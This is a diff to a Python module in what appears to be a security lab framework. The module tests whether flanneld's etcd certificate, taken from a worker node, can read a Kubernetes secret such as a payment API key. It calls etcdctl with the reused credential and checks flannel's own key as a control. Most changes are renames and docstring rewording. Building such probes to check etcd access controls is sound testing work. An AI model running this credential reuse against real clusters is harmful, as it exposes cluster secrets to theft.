@@ -1,7 +1,9 @@
-"""Read the cluster's secrets out of etcd with what flannel uses it with.
+"""Read the cluster's secrets from etcd with the credential of flanneld.
 
-flannel keeps the layout of the pod network in etcd, and flanneld runs on every worker: so every
-worker holds something that opens etcd. How far it opens it is a matter of etcd's users.
+flanneld runs on every worker and keeps the layout of the pod network in etcd, so every worker
+holds a credential for etcd. The attacker needs root on a worker, or a copy of the credential.
+They ask etcd for a secret of the cluster. Without users in etcd, flanneld's credential reads
+every key. Users that hold each client to its own keys stop it.
 """
 
 from __future__ import annotations
@@ -16,7 +18,7 @@ from labkit.errors import ProbeError, ProbeTimeout
 from labkit.model import Channel, Foothold, Model, read_model
 from labkit.model.credentials import client_credential
 from labkit.techniques._lib.machines.reach import inside, run_from
-from labkit.techniques._lib.stores.etcd import keeps_plaintext
+from labkit.techniques._lib.stores.etcd import stores_plaintext
 from labkit.techniques._lib.stores.secret import true_secret
 from labkit.techniques._lib.technique import (
     COPIED_CREDENTIAL,
@@ -36,30 +38,33 @@ WORKER = "worker1"
 CHANNEL = f"flanneld@{WORKER} -> etcd@*"
 WANTED = ("payments", "card-processor", "api-key")
 KEY, OWN = "/registry/secrets/payments/card-processor", "/coreos.com/network/config"
-#: What etcd, and TLS before it, say to somebody whom they do not let.
+#: Refusals by etcd and, before it, by TLS.
 REFUSALS = ("permission denied", "user name is empty", "certificate required", "bad certificate")
 
 
 def predict(model: Model, foothold: Foothold) -> Prediction:
-    """Say what the model says: whether etcd has users, and what it keeps."""
+    """Predict whether etcd lets flanneld read every key, and stores secrets in plaintext."""
     claim = model.open_channels(CHANNEL)[0].authorization
     if claim.value != "allow-all":
         return Prediction(False, (str(claim),))
-    return keeps_plaintext(model)
+    return stores_plaintext(model)
 
 
 def execute(lab: Lab, foothold: Foothold) -> Verdict:
-    """Ask etcd for a secret, as flanneld."""
+    """Ask etcd for a secret with flanneld's credential."""
     secret = true_secret(lab, *WANTED)
     model = read_model(lab.environment)
     channel = model.open_channels(CHANNEL)[0]
-    held = client_credential(model, channel)
-    what = "with flanneld's certificate" if held else "as flanneld does, without a credential"
+    credential = client_credential(model, channel)
+    what = "with flanneld's certificate" if credential else "as flanneld does, without a credential"
     evidence = f"asked etcd for {KEY}, {what}"
-    with _etcdctl(lab, foothold, channel, held) as call:
+    with _etcdctl(lab, foothold, channel, credential) as call:
         answer, own = call(KEY), call(OWN)
     if own.exit_code or not own.stdout.strip():
-        raise ProbeError(f"etcd does not even give flannel {OWN}", evidence=_tail(own))
+        raise ProbeError(
+            f"positive control: flannel cannot read its own key {OWN}",
+            evidence=_tail(own),
+        )
     control = f"the same gives {OWN}, which is flannel's own"
     if secret.found_in(answer.stdout):
         found = f"read: {secret.proof}"
@@ -69,7 +74,7 @@ def execute(lab: Lab, foothold: Foothold) -> Verdict:
         return Verdict(TECHNIQUE.name, lab.mode, foothold, False, reason, (evidence,), control)
     reason = next((word for word in REFUSALS if word in answer.error), "")
     if not answer.exit_code or not reason:
-        raise ProbeError("etcd's answer says nothing", evidence=_tail(answer))
+        raise ProbeError("etcd gave neither the value nor a known refusal", evidence=_tail(answer))
     return Verdict(
         TECHNIQUE.name, lab.mode, foothold, False, f"etcd: {reason}", (evidence,), control
     )
@@ -77,18 +82,22 @@ def execute(lab: Lab, foothold: Foothold) -> Verdict:
 
 @contextmanager
 def _etcdctl(
-    lab: Lab, foothold: Foothold, channel: Channel, held: Credential | None
+    lab: Lab, foothold: Foothold, channel: Channel, credential: Credential | None
 ) -> Iterator[Callable[[str], Output]]:
-    """Yield a function that asks etcd for a key; outside, with a copy of the certificate."""
+    """Yield a function that reads a key from etcd; copy the certificate if it is used elsewhere."""
     server = channel.server.partition("@")[2]
     inside(lab, server)
     folder = f"/tmp/labkit-{secrets.token_hex(4)}"  # noqa: S108 - of the attacker's machine
     argv = ["etcdctl", "--command-timeout=4s", "get", "--print-value-only"]
     argv.append(f"--endpoints={channel.protocol}://{server}:{channel.port}")
-    copied = foothold == COPIED_CREDENTIAL and held is not None
-    if held is not None:
-        authority = next(a for a in lab.environment.authorities if a.name == held.signed_by)
-        paths = {"cert": held.certificate, "key": held.key, "cacert": authority.certificate}
+    copied = foothold == COPIED_CREDENTIAL and credential is not None
+    if credential is not None:
+        authority = next(a for a in lab.environment.authorities if a.name == credential.signed_by)
+        paths = {
+            "cert": credential.certificate,
+            "key": credential.key,
+            "cacert": authority.certificate,
+        }
         argv += [
             f"--{name}={f'{folder}/{name}' if copied else path}" for name, path in paths.items()
         ]
